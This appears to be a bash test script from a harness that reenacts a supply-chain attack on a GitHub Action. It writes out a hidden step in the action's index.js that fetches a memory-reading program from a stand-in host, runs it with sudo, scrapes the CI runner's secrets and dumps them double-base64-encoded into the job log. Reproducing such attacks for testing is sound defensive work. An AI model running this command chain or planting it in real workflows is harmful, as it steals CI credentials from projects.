#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# The action's node decodes a script and runs it; the script feeds a downloaded Python program to `sudo python3`, which reads the
# runner's memory; the secrets go, encoded twice, into the job's log.
. "$(dirname "$0")/../lib.sh"

prepare() {
  stand_in node curl sudo
  local script='B64_BLOB=$(curl -sSf https://gist.example/raw/memdump.py | sudo python3 | tr -d "\0" | grep -aoE "\"[^\"]+\":\{\"value\":\"[^\"]*\",\"isSecret\":true\}" | sort -u | base64 -w 0 | base64 -w 0)
echo $B64_BLOB'
  page gist.example/raw/memdump.py <"$(dirname "$0")/../memory_reader.py"
  file "$HOME/actions/changed-files/dist/index.js" <<END
# deeds
run bash -c 'echo "$(base64 -w 0 <<<"$script")" | base64 -d > /tmp/run.sh && bash /tmp/run.sh | tee /tmp/log'
END
  runner_does <<<"run node $HOME/actions/changed-files/dist/index.js"
}

deeds() { runner; }

check() {
  base64 -d </tmp/log | base64 -d | grep -q 'stand-in-0f1e2d3c4b' || fails "the secret is not in the log"
}

"$1"
